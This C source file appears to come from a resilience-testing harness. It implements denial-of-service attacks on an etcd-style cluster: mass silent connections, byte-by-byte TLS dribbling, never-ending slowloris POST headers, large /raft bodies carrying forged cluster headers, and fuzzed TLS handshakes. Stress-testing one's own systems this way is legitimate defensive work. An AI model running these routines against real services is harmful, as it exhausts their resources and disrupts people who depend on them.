/* Connections that say nothing, or little, and handshakes that come to nothing. */
#include "cluster/attacks_int.h"

#include "base/assert.h"
#include "base/buf.h"
#include "base/mem.h"

#include <errno.h>
#include <inttypes.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

enum {
    SILENT_PEERS = 1100,
    PROBES = 40,
    REOPENED_AT_ONCE = 50, /* of silent connections, in a turn of 50 ms */
    DRIBBLERS = 20,
    DRIBBLE_MS = 3500,
    TRICKLERS = 20,
    TRICKLE_MS = 1000,
    POSTS = 2,
    POST_BYTES = 8 * 1024 * 1024,
    POST_STEP_BYTES = 64 * 1024, /* each 50 ms, of each */
};

/* The responses are read and not looked at. */
static bool is_closed(int fd)
{
    char space[4096];
    ssize_t got;

    do
        got = recv(fd, space, sizeof(space), MSG_DONTWAIT);
    while (got > 0);
    return got == 0 || errno != EAGAIN;
}

struct held {
    uint16_t port;
    unsigned count;
    const char *greeting;  /* said once; NULL: nothing */
    const char *dribbling; /* said a byte at a time, over and over; NULL: nothing */
    unsigned each_ms;
};

static int open_one(const struct held *h)
{
    int fd = raw_h2_socket(h->port, 0);

    if (fd >= 0 && h->greeting)
        (void)!send(fd, h->greeting, strlen(h->greeting), MSG_NOSIGNAL | MSG_DONTWAIT);
    return fd;
}

/* So many, and as many again as are closed. */
static void hold_open(struct attacker *a, const struct held *h)
{
    int *fds = mem_alloc_array(h->count, sizeof(*fds));
    unsigned waited_ms = 0;
    size_t at = 0;

    memset(fds, -1, h->count * sizeof(*fds));
    for (;; attacker_pause_ms(50), waited_ms += 50) {
        unsigned reopened = 0;
        for (unsigned i = 0; i < h->count && reopened < REOPENED_AT_ONCE; i++) {
            if (fds[i] >= 0 && !is_closed(fds[i]))
                continue;
            if (fds[i] >= 0)
                close(fds[i]);
            fds[i] = open_one(h);
            reopened++;
            attacker_made(a);
        }
        if (!h->dribbling || waited_ms < h->each_ms)
            continue;
        waited_ms = 0;
        for (unsigned i = 0; i < h->count; i++)
            if (fds[i] >= 0)
                (void)!send(fds[i], h->dribbling + at % strlen(h->dribbling), 1,
                            MSG_NOSIGNAL | MSG_DONTWAIT);
        at++;
    }
}

void attack_by_silent_peers(struct attacker *a)
{
    hold_open(a, &(struct held){.port = a->target.peer, .count = SILENT_PEERS});
}

void attack_by_silent_probes(struct attacker *a)
{
    hold_open(a, &(struct held){.port = a->target.metrics, .count = PROBES});
}

/* Which is what keep-alive is for. */
void attack_by_idle_probes(struct attacker *a)
{
    hold_open(a, &(struct held){.port = a->target.metrics,
                                .count = PROBES,
                                .greeting = "GET /livez HTTP/1.1\r\nHost: localhost\r\n\r\n"});
}

/* A record of TLS that would be 512 bytes long, if it ever came. */
void attack_by_dribblers(struct attacker *a)
{
    hold_open(a, &(struct held){.port = a->target.peer,
                                .count = DRIBBLERS,
                                .dribbling = "\x16\x03\x01\x02",
                                .each_ms = DRIBBLE_MS});
}

/* --- requests at the peer port, of somebody with a certificate --- */

static void put_post_head(struct attacker *a, struct buf *out, size_t body_bytes)
{
    buf_printf(out,
               "POST /raft HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/protobuf\r\n"
               "X-Etcd-Cluster-ID: %" PRIx64 "\r\nX-Server-From: 1\r\n"
               "X-Server-Version: 3.7.0\r\nX-Min-Cluster-Version: 3.0.0\r\n"
               "Content-Length: %zu\r\n\r\n",
               a->target.cluster_id, body_bytes);
}

/* Heads that do not end, and bodies that do not. */
void attack_by_trickling_posts(struct attacker *a)
{
    struct raw_h2 posts[TRICKLERS];
    struct buf head = {0};

    put_post_head(a, &head, POST_BYTES);
    for (unsigned i = 0; i < TRICKLERS; i++)
        posts[i] = (struct raw_h2){.fd = -1};
    for (;; attacker_pause_ms(TRICKLE_MS))
        for (unsigned i = 0; i < TRICKLERS; i++) {
            struct raw_h2 *r = &posts[i];
            if (!raw_h2_is_gone(r)) {
                (void)!raw_h2_send(r, BYTES("a"));
                continue;
            }
            raw_h2_close(r);
            size_t len = i % 2 == 0 ? head.len : head.len - 4;
            if (raw_h2_open_tls(r, a->context, a->target.peer) &&
                raw_h2_send(r, bytes_of(head.at, len)))
                attacker_made(a);
        }
}

/* Messages that are none, as large as they come one after the other. */
void attack_by_large_posts(struct attacker *a)
{
    static const uint8_t piece[POST_STEP_BYTES];
    struct raw_h2 posts[POSTS];
    size_t sent[POSTS] = {0};
    struct buf head = {0};

    put_post_head(a, &head, POST_BYTES);
    for (unsigned i = 0; i < POSTS; i++)
        posts[i] = (struct raw_h2){.fd = -1};
    for (;; attacker_pause_ms(50))
        for (unsigned i = 0; i < POSTS; i++) {
            struct raw_h2 *r = &posts[i];
            bool is_begun = sent[i] > 0 && !raw_h2_is_gone(r);
            if (!is_begun) {
                raw_h2_close(r);
                sent[i] = 0;
                is_begun = raw_h2_open_tls(r, a->context, a->target.peer) &&
                           raw_h2_send(r, buf_bytes(&head));
            }
            if (!is_begun || !raw_h2_send(r, bytes_of(piece, sizeof(piece))))
                continue;
            sent[i] += sizeof(piece);
            if (sent[i] >= POST_BYTES) {
                sent[i] = 0; /* and a new connection, when this one was answered */
                attacker_made(a);
                (void)!raw_h2_drain(r);
            }
        }
}

/* --- handshakes --- */

void attack_by_broken_handshakes(struct attacker *a)
{
    const uint16_t ports[] = {a->target.client, a->target.peer};
    uint8_t garbage[600] = {0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3};
    SSL_CTX *nobody = SSL_CTX_new(TLS_client_method());

    for (unsigned i = 0;; i++, attacker_pause_ms(20)) {
        int fd = raw_h2_socket(ports[i % ARRAY_LEN(ports)], 0);
        if (fd < 0)
            continue;
        struct timeval patience = {.tv_sec = 1};
        setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
        if (i % 4 < 2) { /* no certificate */
            SSL *ssl = SSL_new(nobody);
            uint8_t byte;
            if (SSL_set_fd(ssl, fd) == 1 && SSL_connect(ssl) == 1)
                (void)SSL_read(ssl, &byte, 1);
            SSL_free(ssl);
        } else {
            garbage[20 + i % 500]++;
            (void)!send(fd, garbage, sizeof(garbage) - i % 300, MSG_NOSIGNAL);
        }
        close(fd);
        attacker_made(a);
    }
}
